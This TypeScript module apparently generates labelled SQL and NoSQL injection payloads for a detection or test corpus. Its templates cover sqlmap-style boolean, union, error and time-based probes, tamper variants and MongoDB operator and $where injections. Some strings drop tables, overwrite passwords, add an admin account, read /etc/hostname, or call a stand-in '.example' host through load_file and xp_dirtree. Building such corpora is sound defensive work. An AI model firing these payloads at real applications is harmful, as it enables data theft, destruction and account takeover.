import type { LabelledAttack, Payload } from '../attack.ts';
import { body } from '../attack.ts';
import type { Random } from '../random.ts';
import { refusal } from './spots.ts';
import { word } from './words.ts';

const QUOTES = ["'", "')", '"', '")', "'))", '', ')'];
const mark = (r: Random): string => r.text(4, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJ');
const nulls = (r: Random): string => Array.from({ length: r.int(2, 9) }, () => 'NULL').join(',');
const mixed = (text: string, r: Random): string =>
  text.replace(/[a-z]/gi, (c) => (r.chance(0.5) ? c.toUpperCase() : c.toLowerCase()));

/** Tests of sqlmap's kind, in the dialects it knows. */
function tool(r: Random): string {
  const q = r.pick(QUOTES);
  const n = r.int(1000, 9999);
  const tail = r.pick(['-- -', `-- ${mark(r)}`, '#', '--']);
  const id = r.int(1, 900);
  return r.pick([
    `${id}${q} AND ${n}=${n}${tail}`,
    `${id}${q} AND ${n}=${r.int(1000, 9999)}${tail}`,
    `${id}${q} OR NOT ${n}=${n}${tail}`,
    `${id}${q} AND ${n}=(SELECT (CASE WHEN (${n}=${n}) THEN ${n} ELSE (SELECT 8292 UNION SELECT 2133) END))${tail}`,
    `-${n}${q} UNION ALL SELECT ${nulls(r)},CONCAT(0x71${r.hex(8)}71,0x${r.hex(10)},0x71)${tail}`,
    `${id}${q} AND EXTRACTVALUE(${n},CONCAT(0x5c,0x71${r.hex(6)},(SELECT (ELT(${n}=${n},1))),0x71))${tail}`,
    `${id}${q} AND ${n}=CAST((CHR(113)||CHR(${r.int(97, 122)}))||(SELECT (CASE WHEN (${n}=${n}) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)${tail}`,
    `${id}${q} AND ${n} IN (SELECT (CHAR(113)+CHAR(${r.int(97, 122)})+(SELECT (CASE WHEN (${n}=${n}) THEN CHAR(49) ELSE CHAR(48) END))))${tail}`,
    `${id}${q} AND (SELECT ${n} FROM (SELECT(SLEEP(${r.int(2, 9)})))${mark(r)})${tail}`,
    `${id}${q};SELECT PG_SLEEP(${r.int(2, 9)})--`,
    `${id}${q};WAITFOR DELAY '0:0:${r.int(2, 9)}'--`,
    `${id}${q} AND ${n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(${r.int(66, 90)}),${r.int(2, 9)})${tail}`,
    `${id}${q} AND ${n}=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(${r.int(2, 9)}00000000/2))))${tail}`,
    `${id}${q} ORDER BY ${r.int(2, 60)}${tail}`,
    `${id}${q} PROCEDURE ANALYSE(EXTRACTVALUE(${n},CONCAT(0x5c,0x71)),1)${tail}`,
    `(SELECT (CASE WHEN (${n}=${n}) THEN ${id} ELSE (SELECT 1 UNION SELECT 2) END))`,
  ]);
}

/** Comments, case, white space and operators changed as tamper scripts do. */
function tampered(text: string, r: Random): string {
  return r.pick([
    () => text.replaceAll(' ', '/**/'),
    () => mixed(text, r),
    () => text.replace(/\b(UNION|SELECT|AND|OR)\b/g, '/*!50000$1*/'),
    () => text.replaceAll(' ', '\t'),
    () => text.replaceAll(' ', '\n'),
    () => text,
    () => text,
    () => text,
  ])();
}

export const sqlTool = (r: Random): Payload => {
  const text = tampered(tool(r), r);
  return {
    text,
    technique: 'sqlmap-like',
    ...(/[\t\n]/.test(text) ? { kinds: ['query', 'form', 'json'] as const } : {}),
  };
};

export function sqlHand(r: Random): Payload {
  const [t, c, n, w] = [word(r), word(r), r.int(2, 990), mark(r)];
  const text = r.pick([
    `' or ${n}=${n}--`,
    `' OR '${w}'='${w}`,
    `" or "${w}"="${w}`,
    `${t}'--`,
    `${t}' #`,
    `admin' or '${n}'='${n}'/*`,
    `') or ('${w}'='${w}'--`,
    `${n} or 1=1`,
    `' || ${n}=${n} -- `,
    `${n}' union select username,password from ${t}_users--`,
    `${n} union all select ${n},@@version,user(),database()-- -`,
    `' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema='${t}'--`,
    `'; DROP TABLE ${t}_${c}; --`,
    `'; INSERT INTO ${t} (name, role) VALUES ('${w}', 'admin');--`,
    `'; UPDATE ${t} SET password='${w}' WHERE 1=1;--`,
    `${n}'+(select load_file('\\\\\\\\${w}.${t}.example\\\\a'))+'`,
    `${n} AND ASCII(SUBSTRING((SELECT password FROM ${t} LIMIT 1),1,1))>${n}`,
    `' AND (SELECT COUNT(*) FROM sqlite_master WHERE name='${t}')>0--`,
    `${n}';exec master..xp_dirtree '//${w}.${t}.example/a'--`,
    `'||(SELECT '' FROM dual WHERE ROWNUM=${n})||'`,
    `${n}e0union/**/select/**/1,${n},3`,
    `' AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')--${w}`,
    `' or sleep(${r.int(3, 20)})#${w}`,
    `if(now()=sysdate(),sleep(${r.int(3, 20)}),0)/*${w}*/`,
    `(select*from(select(sleep(${r.int(3, 20)})))${w})`,
    `${n}' HAVING ${n}=${n}--`,
    `${n}' AND updatexml(1,concat(0x7e,(select user())),${n})-- `,
    `${n};select pg_read_file('/etc/hostname')--${w}`,
  ]);
  return { text, technique: 'by hand' };
}

const NOSQL_PLACES: readonly (readonly [string, string])[] = [
  ['login.tarnwick.example', '/api/session'],
  ['crm.brackenridge.example', '/api/contacts/search'],
  ['community.quillmere.example', '/api/users/find'],
  ['booking.tarnwick.example', '/api/reservations/search'],
];
type Operand = string | number | boolean | null | readonly string[];

const operator = (r: Random): Readonly<Record<string, Operand>> =>
  r.pick([
    { $ne: r.pick([null, '', -r.int(1, 99)]) },
    { $gt: r.pick(['', -r.int(1, 99)]) },
    { $regex: `^${r.pick(['', 'a', word(r)])}.*` },
    { $nin: [r.token(4)] },
    { $exists: true },
    { $in: ['admin', 'root', word(r)] },
    { $where: `sleep(${r.int(1000, 9000)})` },
  ]);

function nosqlCall(
  technique: string,
  shown: string,
  location: LabelledAttack['location'],
  r: Random,
  rest: object,
): LabelledAttack {
  const [host, path] = r.pick(NOSQL_PLACES);
  return {
    family: 'nosql-injection',
    accepted: ['nosql-injection'],
    technique,
    location,
    outcome: 'attempt',
    shown,
    exchange: { method: 'POST', host, path, ...rest, ...refusal(r) },
  };
}

/** Operators where a login or a search expects plain values. */
export function nosqlOperators(r: Random): LabelledAttack {
  const name = `${word(r)}${r.int(1, 999)}`;
  const op = operator(r);
  const key = Object.keys(op)[0] ?? '$ne';
  const value = String(Object.values(op)[0] ?? '');
  const field = r.pick(['username', 'email', 'password', 'token', 'user', 'login']);
  if (r.chance(0.4)) {
    const document = JSON.stringify({
      account: name,
      [field]: op,
      [r.pick(['password', 'pass', 'pin'])]: operator(r),
    });
    return nosqlCall(
      'operator in a json field',
      document,
      'request.body',
      r,
      body('application/json', document),
    );
  }
  const brackets = r.pick([`[${key}]`, `%5B${key}%5D`, `%5B%24${key.slice(1)}%5D`]);
  const text = `account=${name}&${field}${brackets}=${encodeURIComponent(value)}`;
  if (r.chance(0.5))
    return nosqlCall(
      'operator in brackets of a form',
      text,
      'request.body',
      r,
      body('application/x-www-form-urlencoded', text),
    );
  return nosqlCall('operator in brackets of a query', text, 'request.query', r, {
    method: 'GET',
    query: text,
  });
}

/** Scripts for the server-side JavaScript of document databases, and operators inside strings. */
export function nosqlScript(r: Random): Payload {
  const [w, n] = [word(r), r.int(2, 9999)];
  const text = r.pick([
    `' || '${n}'=='${n}`,
    `${w}' || this.password.match(/^${r.token(1)}.*/)//`,
    `'; return this.${w} == ${n}; var x='`,
    `${n}; return true; var d = new Date(); do { c = new Date(); } while (c - d < ${n});`,
    `{"$gt": "${n}"}`,
    `{"$where": "this.${w} == ${n} || true"}`,
    `{"${w}": {"$ne": "${n}"}, "$or": [{}, {"a": "a"}]}`,
    `';sleep(${n});var ${w}='`,
    `function() { return this.${w} > ${n} || sleep(1000) }`,
    `{"$regex": "^${w}${n}"}`,
    `true, $where: '${n} == ${n}'`,
    `{"$func": "var_dump", "${w}": {"$ne": ${n}}}`,
    `${w}"}, "$where": "sleep(${n})", "a": {"$ne": "`,
  ]);
  return { text, technique: 'document database script', alsoFamilies: ['sql-injection'] };
}
